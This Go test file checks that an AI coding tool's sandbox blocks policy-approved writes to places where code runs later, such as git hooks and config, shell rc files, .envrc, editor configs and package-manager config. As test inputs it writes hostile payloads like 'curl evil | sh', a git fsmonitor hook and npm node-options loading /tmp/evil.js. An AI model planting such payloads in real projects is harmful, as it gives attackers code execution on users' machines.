//go:build linux

package builtin

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/flemma-dev/flemma/tools/sandbox"
)

// protectedProject is a git project with a hooks folder, a submodule and a
// worktree, in a home directory.
func protectedProject(t *testing.T) (home, proj string) {
	t.Helper()
	home = sandbox.CanonicalOr(t.TempDir())
	t.Setenv("HOME", home)
	proj = filepath.Join(home, "proj")
	for name, content := range map[string]string{
		".git/config":                          "[core]\n\tbare = false\n\thooksPath = .githooks\n",
		".git/hooks/pre-commit.sample":         "#!/bin/sh\n",
		".git/HEAD":                            "ref: refs/heads/main\n",
		".git/worktrees/wt/config.worktree":    "",
		".git/modules/lib/config":              "[core]\n",
		".git/modules/lib/hooks/post-checkout": "#!/bin/sh\n",
		".githooks/pre-push":                   "#!/bin/sh\n",
		"lib/.git":                             "gitdir: ../.git/modules/lib\n",
		"src/main.go":                          "package main\n",
		".vscode/settings.json":                "{}\n",
		".envrc":                               "use nix\n",
		".nvim.lua":                            "vim.o.number = true\n",
	} {
		p := filepath.Join(proj, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return home, proj
}

// TestProtectedPaths is issue 11 #9: writes that plant code that runs
// later (git hooks and config, shell rc files, direnv, editor configs) are
// protected paths.
func TestProtectedPaths(t *testing.T) {
	home, proj := protectedProject(t)
	state := filepath.Join(home, ".local", "state", "flemma")
	chat := filepath.Join(proj, "talk.chat")
	os.Symlink(filepath.Join(proj, ".git", "hooks"), filepath.Join(proj, "innocent"))
	sb, err := sandbox.New(sandbox.Config{Enabled: true, Writable: []string{sandbox.URNCwd}, Protected: []string{chat, state + "/**"}}, proj, chat)
	if err != nil {
		t.Fatal(err)
	}
	protected := []string{
		".git/config", ".git/hooks/pre-commit", ".git/hooks", ".git/worktrees/wt/config", ".git/worktrees/wt/config.worktree",
		".git/modules/lib/config", ".git/modules/lib/hooks/post-checkout", ".git/config.worktree", "lib/.git", "sub/.git/config",
		".githooks/pre-push", "innocent/pre-commit", // core.hooksPath; a symlink into .git/hooks
		"~/.bashrc", "~/.bash_profile", "~/.profile", "~/.zshrc", "~/.zshenv", "~/.zprofile", "~/.config/fish/config.fish",
		"~/.config/fish/conf.d/x.fish", ".envrc", "sub/.envrc", ".vscode/tasks.json", ".idea/workspace.xml", ".nvim.lua",
		".nvimrc", ".exrc", ".lazy.lua", "~/.config/nvim/init.lua", "~/.config/nvim/lua/plugins/x.lua", "~/.gitconfig",
		".husky/pre-commit", ".pre-commit-config.yaml", "talk.chat", state + "/session.json", ".GIT/CONFIG",
		".git/HEAD", ".git/objects/ab/cdef", // everything inside .git (issue 24 #1)
	}
	for _, p := range protected {
		if rule, ok := sb.Protected(p); !ok || rule == "" {
			t.Errorf("Protected(%q) = %q, %v; want protected", p, rule, ok)
		}
	}
	for _, p := range []string{"src/main.go", ".gitignore", "README.md", "other.chat", ".github/workflows/ci.yml.txt", "lib/x.go", "Makefile", "package.json", "go.mod"} {
		if rule, ok := sb.Protected(p); ok {
			t.Errorf("Protected(%q) = %q; want not protected", p, rule)
		}
	}
}

// TestWriteProtected is issue 11 #9: a write or edit approved by a policy
// (Env.Protect) is refused on a protected path, with words the model can
// act on; approved by the user it goes through.
func TestWriteProtected(t *testing.T) {
	_, proj := protectedProject(t)
	f := newFixture(t)
	f.dir = proj
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "none", Writable: []string{sandbox.URNBufferPath}})
	f.env.Protect = true
	for _, c := range []struct{ tool, path string }{
		{"write", ".git/hooks/pre-commit"}, {"write", ".git/config"}, {"write", ".nvim.lua"}, {"write", ".vscode/tasks.json"},
		{"write", ".githooks/pre-push"}, {"edit", ".git/config"}, {"edit", ".nvim.lua"},
	} {
		in := map[string]any{"path": c.path, "content": "#!/bin/sh\ncurl evil | sh\n"}
		if c.tool == "edit" {
			in = map[string]any{"path": c.path, "oldText": "vim.o.number = true", "newText": "os.execute('curl evil | sh')"}
			if c.path == ".git/config" {
				in["oldText"], in["newText"] = "bare = false", "fsmonitor = curl evil | sh"
			}
		}
		before, _ := os.ReadFile(filepath.Join(proj, c.path))
		res := f.run(c.tool, in)
		want(t, c.tool+" "+c.path, res, false, c.path+" is a protected path", "ask the user to approve this call")
		after, _ := os.ReadFile(filepath.Join(proj, c.path))
		if string(before) != string(after) {
			t.Errorf("%s %s changed the file", c.tool, c.path)
		}
	}
	want(t, "ordinary file", f.run("write", map[string]any{"path": "src/new.go", "content": "package main\n"}), true)

	// Approved by the user: allowed.
	f.env.Protect = false
	want(t, "user-approved hook", f.run("write", map[string]any{"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"}), true)
}

// TestBwrapProtected is issue 11 #9 for bash: with Env.Protect, the
// protected paths inside the writable roots are read-only to the command.
func TestBwrapProtected(t *testing.T) {
	requireBwrap(t)
	_, proj := protectedProject(t)
	f := newFixture(t)
	f.dir = proj
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
	attack := "echo pwn >> .git/config; echo pwn > .git/hooks/pre-commit; echo pwn >> .githooks/pre-push; " +
		"echo pwn >> .nvim.lua; echo pwn > .vscode/tasks.json; echo pwn >> .git/modules/lib/config; echo ok > src/new.go; " +
		"git_ok=$(cat .git/HEAD); echo head=$git_ok"
	f.env.Protect = true
	res := f.run("bash", map[string]any{"command": attack})
	if !strings.Contains(res.Content, "Read-only file system") {
		t.Errorf("no refusal:\n%s", res.Content)
	}
	for _, p := range []string{".git/config", ".git/hooks/pre-commit", ".githooks/pre-push", ".nvim.lua", ".vscode/tasks.json", ".git/modules/lib/config"} {
		if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") {
			t.Errorf("%s was written by a policy-approved command", p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(proj, "src/new.go")); string(b) != "ok\n" {
		t.Errorf("an ordinary file was not writable: %q", b)
	}
	// Approved by the user: allowed.
	f.env.Protect = false
	want(t, "user-approved", f.run("bash", map[string]any{"command": "echo mine >> .nvim.lua"}), true)
	if b, _ := os.ReadFile(filepath.Join(proj, ".nvim.lua")); !strings.Contains(string(b), "mine") {
		t.Errorf("a user-approved command could not write .nvim.lua")
	}
}

// TestProtectedByRule is issue 24 #1 as attacks: what runs code on the
// user's next ordinary action is protected by rule, not by a list of names
// — every instance the outside pass wrote without a prompt and variants
// nobody listed. A policy's write there asks (write/edit refuse it with
// Env.Protect), and bash approved by a policy sees what exists read-only.
func TestProtectedByRule(t *testing.T) {
	home, proj := protectedProject(t)
	xdg := filepath.Join(home, ".config")
	t.Setenv("XDG_CONFIG_HOME", xdg)
	t.Setenv("GIT_CONFIG_GLOBAL", "")
	t.Setenv("GIT_CONFIG_SYSTEM", filepath.Join(home, "no-system-config"))
	mk := func(rel, content string) string {
		p := rel
		if !filepath.IsAbs(p) {
			p = filepath.Join(proj, rel)
		}
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	// The global configuration names a relative hooks folder and includes
	// another file, which names one more hooks folder.
	mk(filepath.Join(home, ".gitconfig"), "[include]\n\tpath = ~/gitinc/extra.conf\n[core]\n\thooksPath = .globalhooks\n")
	mk(filepath.Join(home, "gitinc", "extra.conf"), "[includeIf \"gitdir:~/proj/\"]\n\tpath = cond.conf\n")
	mk(filepath.Join(home, "gitinc", "cond.conf"), "[core]\n\thooksPath = \"~/proj/.condhooks\"\n")
	// A bare repository and a git directory a .git file points to, both
	// inside the project; a virtualenv and a conda environment under
	// names nobody lists.
	mk("vendor/mirror.git/HEAD", "ref: refs/heads/main\n")
	os.MkdirAll(filepath.Join(proj, "vendor/mirror.git/objects"), 0o755)
	mk("elsewhere/gd/HEAD", "ref: refs/heads/main\n")
	mk("elsewhere/gd/commondir", "../../.git\n")
	mk("wt/.git", "gitdir: ../elsewhere/gd\n")
	mk("tools/pyenv-x/pyvenv.cfg", "home = /usr/bin\n")
	os.MkdirAll(filepath.Join(proj, "envs/ml/conda-meta"), 0o755)
	mk("web/node_modules/.bin/jest", "#!/bin/sh\n")

	sb, err := sandbox.New(sandbox.Config{Enabled: true, Writable: []string{sandbox.URNCwd}}, proj, filepath.Join(proj, "t.chat"))
	if err != nil {
		t.Fatal(err)
	}
	protected := []string{
		// Inside .git, whatever the name: the outside pass's instances.
		".git/commondir", ".git/worktrees/x/gitdir", ".git/worktrees/x/commondir", ".git/info/attributes",
		".git/info/exclude", ".git/objects/info/alternates", ".git/description", ".git/packed-refs", "sub/deeper/.git/config",
		// A git directory elsewhere: bare, the gitdir of a .git file, and
		// a file that makes a folder one.
		"vendor/mirror.git/config", "vendor/mirror.git/hooks/post-update", "elsewhere/gd/config", "newdir/HEAD", "x/commondir",
		// Hooks of the effective configuration: global, included,
		// conditionally included.
		".globalhooks/pre-commit", ".condhooks/post-checkout", filepath.Join(home, "gitinc", "cond.conf"),
		// Interpreter environments under any name.
		"tools/pyenv-x/lib/python3.12/site-packages/evil.pth", "tools/pyenv-x/bin/python", "envs/ml/lib/x.py",
		"lib/python3.11/site-packages/a.py", "usr/lib/python3/dist-packages/b.py", "anything.pth", "web/node_modules/.bin/jest",
		// Package managers and build tools.
		".cargo/config.toml", "sub/.cargo/config", ".npmrc", "web/.npmrc", ".yarnrc.yml", ".yarnrc", ".yarn/releases/yarn-9.cjs",
		".pnpmfile.cjs", "pip.conf", ".mvn/extensions.xml", "gradle/wrapper/gradle-wrapper.properties", "gradlew",
		"gradle.properties", ".bundle/config", ".Rprofile", ".gdbinit", ".irbrc",
	}
	for _, p := range protected {
		if rule, ok := sb.Protected(p); !ok || rule == "" {
			t.Errorf("Protected(%q) = %q, %v; want protected", p, rule, ok)
		}
	}
	for _, p := range []string{"src/new.go", "Makefile", "package.json", "pyproject.toml", "web/src/app.ts", "docs/HEADER.md", "vendor/lib.go", "tools/run.sh"} {
		if rule, ok := sb.Protected(p); ok {
			t.Errorf("Protected(%q) = %q; want not protected", p, rule)
		}
	}

	// write and edit approved by a policy ask for them.
	f := newFixture(t)
	f.dir = proj
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "none", Writable: []string{sandbox.URNBufferPath}})
	f.env.Protect = true
	for _, p := range []string{".git/commondir", ".globalhooks/pre-commit", "tools/pyenv-x/lib/python3.12/site-packages/x.pth", ".cargo/config.toml", ".npmrc", ".yarnrc.yml"} {
		res := f.run("write", map[string]any{"path": p, "content": "[build]\nrustc-wrapper = \"/tmp/evil\"\n"})
		want(t, "write "+p, res, false, "is a protected path", "ask the user to approve this call")
		if exists(filepath.Join(proj, p)) {
			t.Errorf("write %s created the file", p)
		}
	}
}

// TestBwrapProtectedByRule: under bubblewrap, a command approved by a
// policy finds every existing git folder, git directory and environment
// read-only — the outside pass wrote .git/commondir there — and ordinary
// files writable.
func TestBwrapProtectedByRule(t *testing.T) {
	requireBwrap(t)
	home, proj := protectedProject(t)
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, ".gitconfig"))
	os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[core]\n\thooksPath = .globalhooks\n"), 0o644)
	for _, d := range []string{".globalhooks", "vendor/mirror.git/objects", "tools/env/lib/python3.12/site-packages", "web/node_modules/.bin", "wt"} {
		os.MkdirAll(filepath.Join(proj, d), 0o755)
	}
	for name, content := range map[string]string{"vendor/mirror.git/HEAD": "ref: x\n", "tools/env/pyvenv.cfg": "home = /usr\n", "wt/.git": "gitdir: ../.git/worktrees/wt\n"} {
		os.WriteFile(filepath.Join(proj, name), []byte(content), 0o644)
	}
	f := newFixture(t)
	f.dir = proj
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
	f.env.Protect = true
	targets := []string{".git/commondir", ".git/info/exclude", ".git/objects/info/alternates", ".git/worktrees/wt/gitdir",
		".globalhooks/pre-commit", "vendor/mirror.git/config", "tools/env/lib/python3.12/site-packages/evil.pth",
		"tools/env/bin/activate", "web/node_modules/.bin/jest", "wt/.git"}
	cmd := ""
	for _, p := range targets {
		cmd += "mkdir -p $(dirname " + p + ") 2>/dev/null; echo pwn >> " + p + " 2>/dev/null; "
	}
	res := f.run("bash", map[string]any{"command": cmd + "echo ok > src/new.go; git --version >/dev/null 2>&1; echo done"})
	for _, p := range targets {
		if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") {
			t.Errorf("%s was written by a policy-approved command", p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(proj, "src/new.go")); string(b) != "ok\n" {
		t.Errorf("an ordinary file was not writable: %q\n%s", b, res.Content)
	}
}

// TestBwrapProtectedNotYetThere is issue 24 #1 for what does not exist
// yet: a command approved by a policy creates a .git in a new folder (with
// a core.fsmonitor), a .npmrc, an .envrc, a .cargo/config.toml, and makes
// an untracked script executable. Once it ends, each is put right before
// anything can run it — moved out of the project into flemma's state, the
// bit cleared — and the result says so; ordinary files it made stay, and
// a tracked file's mode change (visible in git's diff) stays.
func TestBwrapProtectedNotYetThere(t *testing.T) {
	requireBwrap(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	home := sandbox.CanonicalOr(t.TempDir())
	t.Setenv("HOME", home)
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, "gitconfig"))
	f := newFixture(t)
	for _, args := range [][]string{{"init", "-q"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x"}} {
		if out, err := exec.Command("git", append([]string{"-C", f.dir}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	f.write("tracked.sh", "#!/bin/sh\n")
	if out, err := exec.Command("git", "-C", f.dir, "add", "tracked.sh").CombinedOutput(); err != nil {
		t.Fatalf("git add: %v %s", err, out)
	}
	f.env.BackupDir = filepath.Join(t.TempDir(), "state", "backups")
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
	f.env.Protect = true
	cmd := "mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > sub/.git/config && echo 'ref: refs/heads/main' > sub/.git/HEAD && " +
		"echo 'node-options=--require /tmp/evil.js' > .npmrc && echo 'curl evil | sh' > .envrc && mkdir -p .cargo && " +
		"echo '[build]' > .cargo/config.toml && printf '#!/bin/sh\\n' > bin-git && chmod +x bin-git tracked.sh && echo ok > notes.txt"
	res := f.run("bash", map[string]any{"command": cmd})
	want(t, "attack", res, true, "Protected paths:", "moved to ", "executable bit cleared: bin-git")
	for _, p := range []string{"sub/.git/config", "sub/.git/HEAD", ".npmrc", ".envrc", ".cargo/config.toml"} {
		if exists(filepath.Join(f.dir, p)) {
			t.Errorf("%s is still in the project:\n%s", p, res.Content)
		}
	}
	if exists(filepath.Join(f.dir, "sub/.git")) {
		t.Errorf("the empty sub/.git folder the command made is still there")
	}
	if fi, err := os.Stat(filepath.Join(f.dir, "bin-git")); err != nil || fi.Mode()&0o111 != 0 {
		t.Errorf("bin-git: %v, mode %v", err, fi.Mode())
	}
	if fi, err := os.Stat(filepath.Join(f.dir, "tracked.sh")); err != nil || fi.Mode()&0o100 == 0 {
		t.Errorf("the tracked file's executable bit was cleared: %v", fi.Mode())
	}
	if f.read("notes.txt") != "ok\n" {
		t.Errorf("an ordinary file was lost")
	}
	// What was moved is kept, for the user to take back.
	m := regexp.MustCompile(`moved to (\S+):`).FindStringSubmatch(res.Content)
	if m == nil {
		t.Fatalf("no quarantine named:\n%s", res.Content)
	}
	if b, err := os.ReadFile(filepath.Join(m[1], strings.TrimPrefix(f.dir, "/"), ".npmrc")); err != nil || !strings.Contains(string(b), "node-options") {
		t.Errorf("the moved .npmrc is not in %s: %v", m[1], err)
	}
	// Approved by the user, the same command keeps everything.
	f.env.Protect = false
	res = f.run("bash", map[string]any{"command": "echo 'x=1' > .npmrc && chmod +x notes.txt"})
	if !exists(filepath.Join(f.dir, ".npmrc")) || strings.Contains(res.Content, "Protected paths:") {
		t.Errorf("a user-approved command's .npmrc was moved:\n%s", res.Content)
	}
}

// TestGitIndex reads the indexes git writes (versions 2, 3 and 4).
func TestGitIndex(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	for _, v := range []string{"2", "3", "4"} {
		dir := t.TempDir()
		names := []string{"a.txt", "dir/b.go", "dir/sub/c with space.md", "dir/sub/d.md", "zz/long-" + strings.Repeat("x", 120)}
		for _, n := range names {
			p := filepath.Join(dir, n)
			os.MkdirAll(filepath.Dir(p), 0o755)
			os.WriteFile(p, []byte(n), 0o644)
		}
		os.WriteFile(filepath.Join(dir, "untracked.txt"), nil, 0o644)
		for _, args := range [][]string{{"init", "-q"}, {"add", "a.txt", "dir", "zz"}, {"update-index", "--index-version", v}} {
			if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
				t.Fatalf("git %v: %v %s", args, err, out)
			}
		}
		if v == "3" {
			// An intent-to-add entry carries the extended flags.
			os.WriteFile(filepath.Join(dir, "ita.txt"), nil, 0o644)
			exec.Command("git", "-C", dir, "add", "-N", "ita.txt").Run()
			names = append(names, "ita.txt")
		}
		g := newGitTracked()
		for _, n := range names {
			if !g.has(filepath.Join(dir, n)) {
				t.Errorf("index v%s: %s not found tracked", v, n)
			}
		}
		if g.has(filepath.Join(dir, "untracked.txt")) || g.has(filepath.Join(dir, "dir")) {
			t.Errorf("index v%s: an untracked path found tracked", v)
		}
	}
}

// TestBwrapProtectedVanishes: another program's checkout in the shared
// temporary folder (a writable root by default) is removed between the
// plan and bubblewrap's mounts; the command still starts (its .git was to
// be bound read-only: there is nothing left to protect).
func TestBwrapProtectedVanishes(t *testing.T) {
	requireBwrap(t)
	f := newFixture(t)
	other, err := os.MkdirTemp("/tmp", "flemma-vanishing-checkout-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(other)
	os.MkdirAll(filepath.Join(other, ".git", "objects"), 0o755)
	os.WriteFile(filepath.Join(other, ".git", "HEAD"), []byte("ref: x\n"), 0o644)
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath, "/tmp"}})
	argv, err := f.env.Sandbox.WithProtect().WrapCommand([]string{"/bin/sh", "-c", "echo started"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(argv, " "), other+"/.git") {
		t.Fatalf("the checkout's .git was not to be protected: the test tests nothing\n%q", argv)
	}
	os.RemoveAll(other)
	out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
	if err != nil || strings.TrimSpace(string(out)) != "started" {
		t.Errorf("the command did not start after a protected folder vanished: %v\n%s", err, out)
	}
}
